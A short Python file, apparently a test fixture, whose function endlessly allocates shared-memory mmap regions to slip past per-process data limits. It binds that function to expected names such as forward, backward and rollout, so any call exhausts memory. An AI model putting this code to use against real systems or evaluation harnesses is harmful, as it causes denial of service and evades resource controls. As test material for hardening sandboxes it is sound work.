"""Fills shared memory, which limits on a process's data do not count."""

import mmap

hoard = []


def wrong(*args, **kwargs):
    while True:
        hoard.append(mmap.mmap(-1, 16 << 20))
        hoard[-1].write(b"x" * (16 << 20))


action_value = gains = state_value = backward = forward = rollout = wrong
